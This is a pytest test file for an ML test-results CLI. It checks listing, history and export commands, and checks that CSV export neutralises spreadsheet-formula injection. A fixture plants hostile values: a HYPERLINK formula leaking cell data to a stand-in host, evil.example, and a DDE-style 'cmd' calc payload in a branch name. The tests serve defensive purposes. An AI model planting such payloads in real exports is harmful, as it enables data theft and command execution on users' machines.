"""`mltest runs`, `history`, `export` and `sync` against a real SQLite store filled through the store API."""

from __future__ import annotations

import csv
import io
import json
from pathlib import Path

import pandas as pd
import pytest

from mltest.cli import main
from mltest.cli.store_cmds import FORMULA_START
from mltest.model import Commit, Environment, Measurement, Run, TestResult
from mltest.store import open_store

ENV = Environment("3.11", "linux-x86_64", "h", "cpu", 2, "0.1.0")


@pytest.fixture
def project(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    (tmp_path / "pyproject.toml").write_text('[tool.mltest]\nstore_url = "sqlite:///results.db"\n', encoding="utf-8")
    monkeypatch.chdir(tmp_path)
    store = open_store("sqlite:///results.db", root=tmp_path)
    try:
        shas = ["a" * 40, "b" * 40, "c" * 40]
        for i, sha in enumerate(shas):
            commit = Commit(
                sha,
                "main",
                parents=(shas[i - 1],) if i else (),
                subject=f"commit {i}",
                committed_at=f"2026-01-0{3 - i}T00:00:00+00:00",
            )  # dates run backwards on purpose
            run = Run(f"run{i}", "proj", "integration", commit, ENV, started_at=f"2026-02-0{i + 1}T00:00:00+00:00")
            store.begin_run(run)
            store.add_results(
                run.run_id,
                [TestResult("t.py::test_x", "passed", 1.0)],
                [Measurement("t.py::test_x", "accuracy", 0.9 - i / 10, None, True, (0.9 - i / 10,))],
            )
            store.finish_run(run.run_id, "passed", f"2026-02-0{i + 1}T01:00:00+00:00")
    finally:
        store.close()
    return tmp_path


def test_runs_json_lists_newest_first(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["runs", "--json"]) == 0
    runs = json.loads(capsys.readouterr().out)
    assert [r["run_id"] for r in runs] == ["run2", "run1", "run0"]
    assert {r["status"] for r in runs} == {"passed"}


def test_history_is_in_commit_order_not_date_order(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["history", "t.py::test_x", "accuracy", "--branch", "main", "--last", "2"]) == 0
    lines = capsys.readouterr().out.splitlines()
    assert [line.split()[1] for line in lines[2:]] == ["b" * 10, "c" * 10]


@pytest.mark.parametrize("fmt", ["csv", "json", "parquet"])
def test_export_round_trips(project: Path, fmt: str) -> None:
    if fmt == "parquet":  # the [parquet] extra: in the dev set, not in the slim image's test set
        pytest.importorskip("pyarrow", reason="parquet export needs the mltest[parquet] extra")
    out = project / f"export.{fmt}"
    assert main(["export", "--format", fmt, "--out", str(out)]) == 0
    frame = {"csv": pd.read_csv, "json": pd.read_json, "parquet": pd.read_parquet}[fmt](out)
    assert list(frame["sha"].str[:1]) == ["a", "b", "c"]
    assert list(frame["value"].round(3)) == [0.9, 0.8, 0.7]


HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")'


@pytest.fixture
def hostile_project(project: Path) -> Path:
    """``project`` plus one run whose subject, branch, test and metric would be spreadsheet formulas,
    and whose value is negative."""
    store = open_store("sqlite:///results.db", root=project)
    try:
        commit = Commit("d" * 40, "+cmd|' /C calc'!A0", parents=("c" * 40,), subject=HYPERLINK)
        run = Run("run3", "proj", "integration", commit, ENV, started_at="2026-02-04T00:00:00+00:00")
        store.begin_run(run)
        store.add_results(
            run.run_id,
            [TestResult("@t.py::test_y", "passed", 1.0)],
            [Measurement("@t.py::test_y", "\t-delta", -0.5, None, True, (-0.5,))],
        )
        store.finish_run(run.run_id, "passed", "2026-02-04T01:00:00+00:00")
    finally:
        store.close()
    return project


def _csv_rows(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text, newline="")))


def test_export_csv_neutralises_formulas(hostile_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "csv"]) == 0
    text = capsys.readouterr().out
    rows = _csv_rows(text)
    assert len(rows) == 4
    row = rows[-1]
    assert row["subject"] == "'" + HYPERLINK
    assert row["branch"] == "'+cmd|' /C calc'!A0"
    assert row["test"] == "'@t.py::test_y"
    assert row["metric"] == "'\t-delta"
    assert [r["subject"] for r in rows[:3]] == ["commit 0", "commit 1", "commit 2"]  # harmless text unchanged
    for r in rows:
        assert not any(cell.startswith(FORMULA_START) for key, cell in r.items() if key != "value"), r
    # Numbers stay numbers: a negative value is not text, so it gets no quote.
    assert row["value"] == "-0.5"
    frame = pd.read_csv(io.StringIO(text))
    assert frame["value"].dtype.kind == "f"
    assert list(frame["value"].round(3)) == [0.9, 0.8, 0.7, -0.5]


def test_export_csv_raw_keeps_text_as_stored(hostile_project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "csv", "--raw"]) == 0
    row = _csv_rows(capsys.readouterr().out)[-1]
    assert row["subject"] == HYPERLINK
    assert row["branch"] == "+cmd|' /C calc'!A0"
    assert row["test"] == "@t.py::test_y"
    assert row["metric"] == "\t-delta"
    assert row["value"] == "-0.5"


@pytest.mark.parametrize("fmt", ["json", "parquet"])
def test_export_typed_formats_keep_text_as_stored(hostile_project: Path, fmt: str) -> None:
    if fmt == "parquet":
        pytest.importorskip("pyarrow", reason="parquet export needs the mltest[parquet] extra")
    out = hostile_project / f"export.{fmt}"
    assert main(["export", "--format", fmt, "--out", str(out)]) == 0
    frame = pd.read_json(out) if fmt == "json" else pd.read_parquet(out)
    row = frame.iloc[-1]
    assert row["subject"] == HYPERLINK
    assert row["branch"] == "+cmd|' /C calc'!A0"
    assert row["test"] == "@t.py::test_y"
    assert row["metric"] == "\t-delta"
    assert row["value"] == -0.5


def test_export_parquet_needs_out(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["export", "--format", "parquet"]) == 2
    assert capsys.readouterr().err.strip() == ("mltest: error: --format parquet writes a binary file: give --out PATH")


def test_sync_reports_and_bad_store_is_one_line(project: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert main(["sync"]) == 0
    assert capsys.readouterr().out.startswith("sent 0 spooled run(s), marked 0 dead run(s) aborted")
    assert main(["runs", "--store", "sqlite://"]) == 2
    err = capsys.readouterr().err
    assert err.count("\n") == 1
    assert "names no file" in err
